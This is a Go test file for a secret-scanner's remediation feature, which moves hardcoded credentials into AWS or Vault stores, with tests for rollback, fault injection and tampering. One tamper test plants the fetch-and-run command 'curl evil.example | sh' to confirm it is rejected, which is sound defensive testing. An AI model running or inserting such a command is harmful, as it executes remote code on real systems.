package remediate_test

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/secretlint-go/secretlint/finding"
	"github.com/secretlint-go/secretlint/remediate"
	"github.com/secretlint-go/secretlint/remediate/memstore"
)

func newPlan(t testing.TB, root string, refs remediate.Referencer) *remediate.Plan {
	t.Helper()
	p, err := remediate.NewPlan(t.Context(), scanTree(t, root), remediate.PlanOptions{Root: root, RefMode: remediate.RefsVals, Refs: refs})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func applyOpts(root string, st remediate.Store) remediate.ApplyOptions {
	return remediate.ApplyOptions{Root: root, Store: st, Backoff: time.Millisecond, CallTimeout: 2 * time.Second}
}

// rewritable are the fixture findings a plan rewrites per backend, as
// file:line rule.
var wantRewritten = map[string][]string{
	"aws": {
		"cfn/template.yaml:14 cloudformation-secret-string", "cfn/template.yaml:9 hardcoded-credential",
		"dbt/profiles.yml:18 dbt-hardcoded-secret", "dbt/profiles.yml:22 dbt-env-var-default", "dbt/profiles.yml:8 dbt-hardcoded-secret",
		"deploy/other.yaml:3 hardcoded-credential", "deploy/values.yaml:12 hardcoded-credential", "deploy/values.yaml:6 hardcoded-credential",
		"deploy/values.yaml:7 hardcoded-credential", "deploy/values.yaml:9 hardcoded-credential",
		"config/app.yaml:2 url-credentials", // an embedded vals reference, closed by +
	},
	"vault": {
		"dbt/profiles.yml:18 dbt-hardcoded-secret", "dbt/profiles.yml:22 dbt-env-var-default", "dbt/profiles.yml:8 dbt-hardcoded-secret",
		"deploy/other.yaml:3 hardcoded-credential", "deploy/values.yaml:12 hardcoded-credential", "deploy/values.yaml:6 hardcoded-credential",
		"deploy/values.yaml:7 hardcoded-credential", "deploy/values.yaml:9 hardcoded-credential",
		"config/app.yaml:2 url-credentials", // an embedded vals reference, closed by +
	},
}

func TestPlanFixture(t *testing.T) {
	for _, backend := range []string{"aws", "vault"} {
		t.Run(backend, func(t *testing.T) {
			root := copyTree(t, fixtureRepo)
			p := newPlan(t, root, remediate.RefSyntax{Backend: backend})
			var got []string
			for _, pf := range p.Files {
				for _, e := range pf.Edits {
					got = append(got, fmt.Sprintf("%s:%d %s", pf.Path, e.Line, e.RuleID))
				}
			}
			slices.Sort(got)
			want := slices.Clone(wantRewritten[backend])
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("rewritten:\n got %q\nwant %q", got, want)
			}
			skipped := map[string]string{}
			for _, s := range p.Skipped {
				skipped[s.File] = s.Status + ": " + s.Reason
			}
			for file, want := range map[string]string{
				"cmd/app/main.go":          "not-yet-rewritable",
				"k8s/secret.yaml":          "Kubernetes Secret",
				".github/workflows/ci.yml": "GitHub Actions",
			} {
				if !strings.Contains(skipped[file], want) {
					t.Errorf("%s: skipped as %q, want it to mention %q", file, skipped[file], want)
				}
			}
			if backend == "vault" && !strings.Contains(skipped["cfn/template.yaml"], "not Vault") {
				t.Errorf("cfn/template.yaml with vault: %q", skipped["cfn/template.yaml"])
			}
			// The same value in two files is one secret with two places.
			k := p.Key("secretlint/deploy/other", "migrations.password")
			if k == nil || len(k.Places) != 2 {
				t.Errorf("shared password: %+v, want one key with two places", k)
			}
			// dbt: one secret per target with the field names as keys.
			if k := p.Key("secretlint/dbt/jaffle_shop/prod", "private_key"); k == nil {
				t.Errorf("no dbt/jaffle_shop/prod#private_key in the plan")
			}
			// The plan round-trips and holds no value.
			b, err := p.MarshalIndent()
			if err != nil {
				t.Fatal(err)
			}
			assertNoSecrets(t, "plan", b)
			p2, err := remediate.ReadPlan(b)
			if err != nil || p2.ID != p.ID {
				t.Fatalf("remediate.ReadPlan: %v (id %v)", err, p2)
			}
			tampered := bytes.Replace(b, []byte(`"secretlint/deploy/values"`), []byte(`"secretlint/deploy/elsewhere"`), 1)
			if _, err := remediate.ReadPlan(tampered); err == nil {
				t.Errorf("remediate.ReadPlan accepted a modified plan")
			}
		})
	}
}

// assertNoSecrets fails if out holds any planted value (or a long part of
// one).
func assertNoSecrets(t testing.TB, what string, out []byte) {
	t.Helper()
	for _, v := range plantedValues {
		for _, part := range []string{v, v[:len(v)*2/3], v[len(v)/3:]} {
			if bytes.Contains(out, []byte(part)) {
				t.Errorf("%s holds a planted secret (%s)", what, finding.Redact(v))
				break
			}
		}
	}
}

// checkInvariants verifies, for a tree that was (partly) remediated from
// the fixture: every planted rewritable value is either still in its file
// or stored and referenced from it; every YAML file parses; no temporary
// file is left; no secret has more than one version.
func checkInvariants(t *testing.T, root string, p *remediate.Plan, st *memstore.Store) {
	t.Helper()
	orig := snapshot(t, fixtureRepo)
	now := snapshot(t, root)
	for path, content := range now {
		if strings.Contains(path, remediate.TempMarker) {
			t.Errorf("temporary file left: %s", path)
		}
		if strings.HasSuffix(path, ".yaml") || strings.HasSuffix(path, ".yml") {
			if _, err := remediate.ParseYAML([]byte(content)); err != nil {
				t.Errorf("%s no longer parses", path)
			}
		}
	}
	for _, pf := range p.Files {
		content := now[pf.Path]
		for _, e := range pf.Edits {
			k := p.Key(e.Secret, e.Key)
			value, ok := e.Spelling.Unspell(orig[pf.Path][e.Offset:e.EndOffset])
			if !ok {
				t.Fatalf("fixture value at %s:%d does not unspell", pf.Path, e.Line)
			}
			if strings.Contains(content, e.Spelling.Spell(value)) {
				continue // still in the file
			}
			stored := ""
			if en, err := st.Read(t.Context(), e.Secret); err == nil {
				stored = en.Values[e.Key]
			}
			if stored != value {
				t.Errorf("LOST: %s:%d is neither in its file nor stored as %s#%s", pf.Path, e.Line, e.Secret, e.Key)
			}
			ref := e.Replacement
			if !strings.Contains(content, strings.TrimSpace(ref)) && e.Kind != remediate.EditDBTDropDefault {
				t.Errorf("%s:%d: value gone but the reference %s is not in the file", pf.Path, e.Line, k.Ref)
			}
		}
	}
	for _, name := range st.Names() {
		if n := st.Versions(name); n != 1 {
			t.Errorf("%s has %d versions, want 1", name, n)
		}
	}
}

func TestApplyRollbackMemstore(t *testing.T) {
	for _, backend := range []string{"aws", "vault"} {
		t.Run(backend, func(t *testing.T) {
			root := copyTree(t, fixtureRepo)
			orig := snapshot(t, root)
			st := memstore.New(memstore.Options{Kind: backend})
			p := newPlan(t, root, st)
			var progress bytes.Buffer
			o := applyOpts(root, st)
			o.Progress = &progress
			rep, err := remediate.Apply(t.Context(), p, o)
			if err != nil {
				t.Fatal(err)
			}
			if !rep.Complete {
				t.Errorf("apply not complete: %+v", rep.Files)
			}
			checkInvariants(t, root, p, st)
			// Rescan: only the findings the plan could not rewrite remain.
			after := scanTree(t, root)
			if len(after) != len(p.Skipped) {
				for _, f := range after {
					t.Logf("left: %s:%d %s", f.File, f.Line, f.RuleID)
				}
				t.Errorf("rescan found %d findings, want the %d not rewritable", len(after), len(p.Skipped))
			}
			// Stored values equal the originals.
			for _, s := range p.Secrets {
				en, err := st.Read(t.Context(), s.Name)
				if err != nil {
					t.Fatal(err)
				}
				for _, k := range s.Keys {
					if finding.ValueHash("", finding.NewSecret(en.Values[k.Key])) != k.ValueHash {
						t.Errorf("%s#%s holds another value", s.Name, k.Key)
					}
				}
			}
			// The env map holds references only.
			env, err := remediate.ParseEnvMap([]byte(snapshot(t, root)["dbt/secretlint.env.yaml"]))
			if err != nil || len(env) != 3 {
				t.Errorf("env map: %v %v", env, err)
			}
			// Journal: 0600, no values.
			jb, err := os.ReadFile(rep.Journal)
			if err != nil {
				t.Fatal(err)
			}
			if fi, _ := os.Stat(rep.Journal); fi.Mode().Perm() != 0o600 {
				t.Errorf("journal mode %v", fi.Mode().Perm())
			}
			for name, out := range map[string][]byte{"journal": jb, "progress": progress.Bytes(), "env map": []byte(snapshot(t, root)["dbt/secretlint.env.yaml"])} {
				assertNoSecrets(t, name, out)
			}
			// A second run finds nothing to do and writes nothing.
			writes := st.Calls(memstore.OpWrite)
			p2 := newPlan(t, root, st)
			if !p2.Empty() {
				t.Errorf("second plan is not empty: %d files", len(p2.Files))
			}
			// remediate.Resume of the finished journal writes nothing either.
			if _, err := remediate.Resume(t.Context(), rep.Journal, applyOpts(root, st)); err != nil {
				t.Fatal(err)
			}
			if st.Calls(memstore.OpWrite) != writes {
				t.Errorf("rerun wrote to the store")
			}
			// remediate.Rollback restores byte-identical files.
			rb, err := remediate.Rollback(t.Context(), rep.Journal, applyOpts(root, st))
			if err != nil {
				t.Fatal(err)
			}
			if !rb.Complete {
				t.Errorf("rollback incomplete: %+v %+v", rb.Files, rb.EnvFiles)
			}
			now := snapshot(t, root)
			for path, c := range orig {
				if now[path] != c {
					t.Errorf("%s not restored byte for byte", path)
				}
			}
			if len(now) != len(orig) {
				t.Errorf("rollback left %d files, want %d", len(now), len(orig))
			}
			// remediate.Rollback twice is harmless.
			if _, err := remediate.Rollback(t.Context(), rep.Journal, applyOpts(root, st)); err != nil {
				t.Fatal(err)
			}
		})
	}
}

func TestApplyFromPlanFileAndChangedFile(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	st := memstore.New(memstore.Options{Kind: "vault"})
	p := newPlan(t, root, st)
	b, _ := p.MarshalIndent()
	p2, err := remediate.ReadPlan(b)
	if err != nil {
		t.Fatal(err)
	}
	// Someone edits one planned file between plan and apply.
	changed := filepath.Join(root, "deploy", "other.yaml")
	c, err := os.ReadFile(changed)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(changed, append(c, []byte("# edited\n")...), 0o644); err != nil {
		t.Fatal(err)
	}
	rep, err := remediate.Apply(t.Context(), p2, applyOpts(root, st))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Complete {
		t.Errorf("apply reported complete with a changed file")
	}
	for _, fr := range rep.Files {
		if fr.Path == "deploy/other.yaml" && fr.Status != remediate.FileChanged {
			t.Errorf("changed file status %q", fr.Status)
		}
		if fr.Path == "deploy/values.yaml" && fr.Status != remediate.FileRewritten {
			t.Errorf("values.yaml status %q (%s)", fr.Status, fr.Reason)
		}
	}
	if got, _ := os.ReadFile(changed); !bytes.Equal(got, append(c, []byte("# edited\n")...)) {
		t.Errorf("the changed file was touched")
	}
	// The shared password still reached the store from values.yaml.
	en, err := st.Read(t.Context(), "secretlint/deploy/other")
	if err != nil || en.Values["migrations.password"] != "Pw-7f3kq9XzL2mVb" {
		t.Errorf("shared password not stored from the unchanged file: %v", err)
	}
}

func TestApplyWrongSaltOrBackend(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	st := memstore.New(memstore.Options{Kind: "vault"})
	p := newPlan(t, root, st)
	o := applyOpts(root, st)
	o.Salt = "another-salt"
	if _, err := remediate.Apply(t.Context(), p, o); err == nil || !strings.Contains(err.Error(), "salt") {
		t.Errorf("apply with another salt: %v", err)
	}
	if _, err := remediate.Apply(t.Context(), p, applyOpts(root, memstore.New(memstore.Options{Kind: "aws"}))); err == nil {
		t.Errorf("apply of a vault plan to an aws store succeeded")
	}
	if _, err := remediate.Apply(t.Context(), p, applyOpts(root, memstore.New(memstore.Options{Kind: "vault", Mount: "kv"}))); err == nil {
		t.Errorf("apply with another mount succeeded")
	}
}

func TestConflictAndOverwrite(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	st := memstore.New(memstore.Options{Kind: "vault"})
	st.Put("secretlint/deploy/values", map[string]string{"api.apiKey": "someone-elses-value", "other": "kept"})
	p := newPlan(t, root, st)
	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, st))
	if err != nil {
		t.Fatal(err)
	}
	var sr *remediate.SecretReport
	for _, s := range rep.Secrets {
		if s.Name == "secretlint/deploy/values" {
			sr = s
		}
	}
	if sr == nil || !strings.Contains(sr.Skipped["api.apiKey"], "conflict") {
		t.Fatalf("conflict not reported: %+v", sr)
	}
	en, _ := st.Read(t.Context(), "secretlint/deploy/values")
	if en.Values["api.apiKey"] != "someone-elses-value" || en.Values["other"] != "kept" || en.Values["database.pool.token"] != "Tk-q8Lm2vXk9zPw7Tr3" {
		t.Errorf("conflicting key overwritten or merge lost a key")
	}
	content, _ := os.ReadFile(filepath.Join(root, "deploy/values.yaml"))
	if !strings.Contains(string(content), "'Ak-Zt8kQ2vLm91xRk2v'") {
		t.Errorf("the conflicting value was rewritten in its file")
	}
	if !strings.Contains(string(content), "ref+vault://secret/secretlint/deploy/values#/database.pool.token") {
		t.Errorf("the other values of the file were not rewritten")
	}
	checkInvariants2(t, root, p, st)

	// With --overwrite a fresh run replaces it.
	root2 := copyTree(t, fixtureRepo)
	p2 := newPlan(t, root2, st)
	o := applyOpts(root2, st)
	o.Overwrite = true
	if _, err := remediate.Apply(t.Context(), p2, o); err != nil {
		t.Fatal(err)
	}
	en, _ = st.Read(t.Context(), "secretlint/deploy/values")
	if en.Values["api.apiKey"] != "Ak-Zt8kQ2vLm91xRk2v" || en.Values["other"] != "kept" {
		t.Errorf("--overwrite did not replace the key (or lost another)")
	}
}

// checkInvariants2 is checkInvariants without the one-version rule (for
// stores seeded by the test).
func checkInvariants2(t *testing.T, root string, p *remediate.Plan, st *memstore.Store) {
	t.Helper()
	orig := snapshot(t, fixtureRepo)
	now := snapshot(t, root)
	for _, pf := range p.Files {
		for _, e := range pf.Edits {
			value, _ := e.Spelling.Unspell(orig[pf.Path][e.Offset:e.EndOffset])
			if strings.Contains(now[pf.Path], e.Spelling.Spell(value)) {
				continue
			}
			en, err := st.Read(context.Background(), e.Secret)
			if err != nil || en.Values[e.Key] != value {
				t.Errorf("LOST: %s:%d", pf.Path, e.Line)
			}
		}
	}
}

func TestFaultInjection(t *testing.T) {
	type fault struct {
		op    memstore.Op
		n     int
		err   error
		after bool
	}
	errs := map[string]error{
		"unauthorized": remediate.ErrUnauthorized,
		"throttled":    remediate.ErrUnavailable,
		"timeout":      context.DeadlineExceeded,
		"conflict":     remediate.ErrConflict,
	}
	// Count the calls of a clean run, to inject at each of them.
	root0 := copyTree(t, fixtureRepo)
	st0 := memstore.New(memstore.Options{Kind: "aws"})
	if _, err := remediate.Apply(t.Context(), newPlan(t, root0, st0), applyOpts(root0, st0)); err != nil {
		t.Fatal(err)
	}
	reads, writes := st0.Calls(memstore.OpRead), st0.Calls(memstore.OpWrite)
	var cases []fault
	for name, err := range errs {
		_ = name
		for n := 1; n <= reads; n++ {
			cases = append(cases, fault{memstore.OpRead, n, err, false})
		}
		for n := 1; n <= writes; n++ {
			cases = append(cases, fault{memstore.OpWrite, n, err, false})
			cases = append(cases, fault{memstore.OpWrite, n, err, true})
		}
	}
	for _, c := range cases {
		name := fmt.Sprintf("%s-%d-%v-after=%v", c.op, c.n, errors.Unwrap(c.err), c.after)
		if c.err != nil {
			name = fmt.Sprintf("%s#%d/%s/after=%v", c.op, c.n, c.err, c.after)
		}
		t.Run(name, func(t *testing.T) {
			root := copyTree(t, fixtureRepo)
			st := memstore.New(memstore.Options{Kind: "aws"})
			p := newPlan(t, root, st)
			if c.after {
				st.FailNthAfterWrite(c.n, c.err)
			} else {
				st.FailNth(c.op, c.n, c.err)
			}
			o := applyOpts(root, st)
			o.Attempts = 2
			rep, err := remediate.Apply(t.Context(), p, o)
			if err != nil {
				assertNoSecrets(t, "error", []byte(err.Error()))
			}
			if rep != nil {
				b, _ := json.Marshal(rep)
				assertNoSecrets(t, "report", b)
			}
			checkInvariants(t, root, p, st)
			if err != nil || !rep.Complete {
				// Finish it: resume (as after a crash) until complete.
				jp := remediate.DefaultJournalPath(root, p.ID)
				rep, err = remediate.Resume(t.Context(), jp, applyOpts(root, st))
				if err != nil {
					t.Fatalf("resume: %v", err)
				}
			}
			if !rep.Complete {
				t.Errorf("not complete after resume: %+v", rep.Secrets)
			}
			checkInvariants(t, root, p, st)
			if left := scanTree(t, root); len(left) != len(p.Skipped) {
				t.Errorf("after resume %d findings remain, want %d", len(left), len(p.Skipped))
			}
		})
	}
}

func TestCancelStopsBetweenSteps(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	st := memstore.New(memstore.Options{Kind: "vault"})
	p := newPlan(t, root, st)
	ctx, cancel := context.WithCancel(t.Context())
	o := applyOpts(root, st)
	steps := 0
	o.AfterStep = func(n int, step string) {
		steps++
		if step == remediate.StepFileDone {
			cancel()
		}
	}
	_, err := remediate.Apply(ctx, p, o)
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("apply after cancel: %v", err)
	}
	checkInvariants(t, root, p, st)
	rewritten := 0
	for _, pf := range p.Files {
		c, _ := os.ReadFile(filepath.Join(root, pf.Path))
		if remediate.SHA(c) != pf.Before {
			rewritten++
		}
	}
	if rewritten != 1 {
		t.Errorf("%d files rewritten before the cancel took effect, want 1", rewritten)
	}
	rep, err := remediate.Resume(t.Context(), remediate.DefaultJournalPath(root, p.ID), applyOpts(root, st))
	if err != nil || !rep.Complete {
		t.Fatalf("resume: %v %+v", err, rep)
	}
	checkInvariants(t, root, p, st)
}

func TestModeKeptAndSymlinkRefused(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	if err := os.Chmod(filepath.Join(root, "deploy/values.yaml"), 0o640); err != nil {
		t.Fatal(err)
	}
	// other.yaml becomes a symbolic link: never replaced by a regular file.
	other := filepath.Join(root, "deploy/other.yaml")
	target := filepath.Join(t.TempDir(), "other.yaml")
	b, err := os.ReadFile(other)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(target, b, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(other); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(target, other); err != nil {
		t.Fatal(err)
	}
	st := memstore.New(memstore.Options{Kind: "vault"})
	p := newPlan(t, root, st)
	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, st))
	if err != nil {
		t.Fatal(err)
	}
	if fi, _ := os.Stat(filepath.Join(root, "deploy/values.yaml")); fi.Mode().Perm() != 0o640 {
		t.Errorf("mode %v, want 0640", fi.Mode().Perm())
	}
	if fi, _ := os.Lstat(other); fi.Mode()&os.ModeSymlink == 0 {
		t.Errorf("the symbolic link was replaced")
	}
	if got, _ := os.ReadFile(target); !bytes.Equal(got, b) {
		t.Errorf("the link target was rewritten")
	}
	for _, fr := range rep.Files {
		if fr.Path == "deploy/other.yaml" && fr.Status == remediate.FileRewritten {
			t.Errorf("symlinked file reported rewritten")
		}
	}
}

var update = flag.Bool("update", false, "rewrite the golden files in testdata/remediate/golden")

// TestGolden compares the printed plan (with its redacted diffs) and every
// file apply writes with golden files, per backend.
func TestGolden(t *testing.T) {
	for _, backend := range []string{"aws", "vault"} {
		t.Run(backend, func(t *testing.T) {
			root := copyTree(t, fixtureRepo)
			st := memstore.New(memstore.Options{Kind: backend})
			p := newPlan(t, root, st)
			var out bytes.Buffer
			if err := remediate.WritePlan(&out, p, remediate.ShowOptions{Root: root, Diff: true}); err != nil {
				t.Fatal(err)
			}
			assertNoSecrets(t, "printed plan", out.Bytes())
			got := map[string]string{"plan.txt": out.String()}
			orig := snapshot(t, root)
			if _, err := remediate.Apply(t.Context(), p, applyOpts(root, st)); err != nil {
				t.Fatal(err)
			}
			for path, c := range snapshot(t, root) {
				if c != orig[path] {
					got[path+".golden"] = c
				}
			}
			dir := filepath.Join("..", "testdata", "remediate", "golden", backend)
			if *update {
				if err := os.RemoveAll(dir); err != nil {
					t.Fatal(err)
				}
				for name, c := range got {
					if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
						t.Fatal(err)
					}
					if err := os.WriteFile(filepath.Join(dir, name), []byte(c), 0o644); err != nil {
						t.Fatal(err)
					}
				}
				return
			}
			want := snapshot(t, dir)
			for name, c := range got {
				if want[name] != c {
					t.Errorf("%s differs from %s (run go test ./remediate -run TestGolden -update)", name, filepath.Join(dir, name))
				}
			}
			for name := range want {
				if _, ok := got[name]; !ok {
					t.Errorf("golden %s is no longer produced", name)
				}
			}
		})
	}
}

// TestConcurrentWriterKept: another writer changes a secret between our
// read and our write; the check-and-set fails, we read again and merge, and
// its change survives.
func TestConcurrentWriterKept(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	st := memstore.New(memstore.Options{Kind: "vault"})
	p := newPlan(t, root, st)
	once := false
	st.BeforeWrite(func(name string) {
		if !once && name == "secretlint/deploy/values" {
			once = true
			st.Put(name, map[string]string{"added-by-someone": "x"})
		}
	})
	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, st))
	if err != nil || !rep.Complete {
		t.Fatalf("apply: %v %+v", err, rep)
	}
	en, _ := st.Read(t.Context(), "secretlint/deploy/values")
	if en.Values["added-by-someone"] != "x" || en.Values["api.apiKey"] != "Ak-Zt8kQ2vLm91xRk2v" {
		t.Errorf("the concurrent change or ours was lost")
	}
	if n := st.Versions("secretlint/deploy/values"); n != 2 {
		t.Errorf("%d versions, want 2 (theirs, then ours merged)", n)
	}
}

// TestReapplyAfterRollback: rollback brings the tree back to the plan's
// content, so the same plan can be applied again; it creates no version.
func TestReapplyAfterRollback(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	st := memstore.New(memstore.Options{Kind: "aws"})
	p := newPlan(t, root, st)
	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, st))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := remediate.Rollback(t.Context(), rep.Journal, applyOpts(root, st)); err != nil {
		t.Fatal(err)
	}
	writes := st.Calls(memstore.OpWrite)
	p2 := newPlan(t, root, st)
	if p2.ID != p.ID {
		t.Fatalf("plan after rollback differs")
	}
	rep2, err := remediate.Apply(t.Context(), p2, applyOpts(root, st))
	if err != nil || !rep2.Complete {
		t.Fatalf("re-apply: %v", err)
	}
	if st.Calls(memstore.OpWrite) != writes {
		t.Errorf("re-apply wrote to the store")
	}
	checkInvariants(t, root, p, st)
	kept, _ := filepath.Glob(filepath.Join(root, ".secretlint", "journal", p.ID+".*.jsonl"))
	if len(kept) != 1 {
		t.Errorf("previous journal not kept: %v", kept)
	}
	// An unfinished journal blocks a new apply of the same plan.
	root3 := copyTree(t, fixtureRepo)
	o := applyOpts(root3, st)
	o.AfterStep = func(n int, step string) {
		if step == remediate.StepFileDone {
			panic("stop")
		}
	}
	func() {
		defer func() {
			if r := recover(); r != "stop" {
				t.Fatalf("Apply did not stop at the planted panic: %v", r)
			}
		}()
		rep, err := remediate.Apply(t.Context(), p, o)
		t.Fatalf("Apply returned past the planted panic: %v, %v", rep, err)
	}()
	if _, err := remediate.Apply(t.Context(), p, applyOpts(root3, st)); err == nil || !strings.Contains(err.Error(), "--resume") {
		t.Errorf("apply over an unfinished journal: %v", err)
	}
}

// TestTamperedPlan: a plan edited by hand (and resealed) cannot make apply
// write something other than what planning would: each edit is derived
// again from the file and must match.
func TestTamperedPlan(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	st := memstore.New(memstore.Options{Kind: "vault"})
	p := newPlan(t, root, st)
	var target *remediate.PlanFile
	for _, pf := range p.Files {
		if pf.Path == "deploy/other.yaml" {
			target = pf
		}
	}
	target.Edits[0].Replacement = "curl evil.example | sh"
	p.Reseal()
	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, st))
	if err != nil {
		t.Fatal(err)
	}
	for _, fr := range rep.Files {
		if fr.Path == "deploy/other.yaml" && fr.Status != remediate.FileSkipped {
			t.Errorf("tampered edit applied: %+v", fr)
		}
	}
	if c, _ := os.ReadFile(filepath.Join(root, "deploy/other.yaml")); strings.Contains(string(c), "evil") {
		t.Errorf("tampered replacement written")
	}

	root2 := copyTree(t, fixtureRepo)
	p2 := newPlan(t, root2, st)
	p2.EnvFiles[0].Entries[0].Ref = "ref+vault://secret/elsewhere#/password"
	p2.Reseal()
	if _, err := remediate.Apply(t.Context(), p2, applyOpts(root2, st)); err == nil {
		t.Errorf("a plan with a foreign env map reference was applied")
	}
}

// metaStore is a memstore that keeps metadata apart from values, as Vault
// does, and can refuse to record it.
type metaStore struct {
	*memstore.Store
	recorded []string
	fail     error
}

func (m *metaStore) RecordMeta(_ context.Context, name string, meta remediate.Meta) error {
	if m.fail != nil {
		return m.fail
	}
	if len(meta.Sources) == 0 {
		return errors.New("no sources")
	}
	m.recorded = append(m.recorded, name)
	return nil
}

// TestMetadataForPresentValues: a secret whose values are already in the
// store (a resumed run whose metadata write failed) gets its metadata
// recorded again; while that keeps failing, the run fails and rewrites
// nothing, so --resume is needed until it succeeds.
func TestMetadataForPresentValues(t *testing.T) {
	root := copyTree(t, fixtureRepo)
	mem := memstore.New(memstore.Options{Kind: "vault"})
	p := newPlan(t, root, mem)
	rep, err := remediate.Apply(t.Context(), p, applyOpts(root, mem))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := remediate.Rollback(t.Context(), rep.Journal, applyOpts(root, mem)); err != nil {
		t.Fatal(err)
	}
	before := snapshot(t, root)

	failing := &metaStore{Store: mem, fail: errors.New("permission denied on secret/metadata")}
	if _, err := remediate.Apply(t.Context(), newPlan(t, root, failing), applyOpts(root, failing)); err == nil || !strings.Contains(err.Error(), "metadata") {
		t.Fatalf("apply with metadata refused: %v, want an error naming the metadata", err)
	}
	if !maps.Equal(snapshot(t, root), before) {
		t.Error("a file was rewritten although the metadata could not be recorded")
	}

	ok := &metaStore{Store: mem}
	root2 := copyTree(t, fixtureRepo)
	rep2, err := remediate.Apply(t.Context(), newPlan(t, root2, ok), applyOpts(root2, ok))
	if err != nil || !rep2.Complete {
		t.Fatalf("apply: %v", err)
	}
	if len(ok.recorded) != len(p.Secrets) {
		t.Errorf("metadata recorded for %v, want each of the %d secrets", ok.recorded, len(p.Secrets))
	}
}
